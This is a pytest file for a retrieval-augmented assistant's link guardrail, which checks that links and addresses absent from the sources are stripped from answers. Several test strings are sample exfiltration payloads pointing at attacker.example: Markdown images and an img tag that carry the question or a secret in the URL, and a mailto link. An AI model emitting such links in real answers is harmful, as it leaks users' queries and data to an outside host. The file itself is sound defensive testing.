"""Links in answers: what the sources do not hold is taken out, what they hold stays."""

import time

import pytest

from guardrails.links import REMOVED, LinkPolicy, known_addresses
from index.base import Chunk, Hit

SOURCE = "The API reference is at https://docs.example.com/api. Logs go to /var/log/ragguard."
KNOWN = known_addresses([Hit(Chunk("a.md#0", "a.md", "A", SOURCE, 0, len(SOURCE), url="https://wiki.example.com/a"),
                             1.0)])


@pytest.mark.parametrize(("answer", "expected", "kinds"), [
    # the exfiltration: an image a Markdown client fetches by itself, the question in its address
    ("The port is 8080 [1].![](https://attacker.example/log?q=what+port)", "The port is 8080 [1].", {"image": 1}),
    ('See ![chart](https://attacker.example/c.png "t") here.', "See  here.", {"image": 1}),
    ('Done. <img src="https://attacker.example/p.gif?d=secret" width=1>', "Done. ", {"image": 1}),
    ("Read [the guide](https://attacker.example/guide) first.", "Read the guide first.", {"link": 1}),
    ("Mail [us](mailto:leak@attacker.example?body=secret).", "Mail us.", {"link": 1}),
    ("Go to https://attacker.example/x?q=1, then retry.", f"Go to {REMOVED}, then retry.", {"address": 1}),
    ("Or www.attacker.example/y today.", f"Or {REMOVED} today.", {"address": 1}),
    # what the sources hold, relative links and plain text stay
    ("The reference is at https://docs.example.com/api.", "The reference is at https://docs.example.com/api.", {}),
    ("See [the API](https://docs.example.com/api) and [A](https://wiki.example.com/a).",
     "See [the API](https://docs.example.com/api) and [A](https://wiki.example.com/a).", {}),
    ("See [usage](#usage) and [the API doc](docs/api.md).", "See [usage](#usage) and [the API doc](docs/api.md).", {}),
    ("Ratio 3:1, time 12:30, path /var/log/ragguard.", "Ratio 3:1, time 12:30, path /var/log/ragguard.", {}),
])
def test_only_what_the_sources_hold_is_linked(answer: str, expected: str, kinds: dict[str, int]) -> None:
    text, removed = LinkPolicy().scrub(answer, KNOWN)
    assert (text, dict(removed)) == (expected, kinds)


def test_an_operator_listed_host_is_linked() -> None:
    answer = "Status: ![badge](https://status.example.org/b.svg) and https://status.example.org/now"
    assert LinkPolicy(frozenset({"status.example.org"})).scrub(answer, KNOWN) == (answer, {})
    assert LinkPolicy().scrub(answer, KNOWN)[0] == f"Status:  and {REMOVED}"


@pytest.mark.parametrize("unit", ["![](", "[a](", "<img ", "https://", "[", "](http://x"])
def test_cost_grows_linearly_with_length(unit: str) -> None:
    """Structural, not a stopwatch: 4x the text must cost well under 16x (what a quadratic pattern costs)."""
    def cpu(text: str) -> float:
        best = float("inf")
        for _ in range(3):
            started = time.process_time()
            LinkPolicy().scrub(text, KNOWN)
            best = min(best, time.process_time() - started)
        return max(best, 1e-4)

    small, large = unit * (2_000 // len(unit)), unit * (8_000 // len(unit))
    assert cpu(large) / cpu(small) < 9
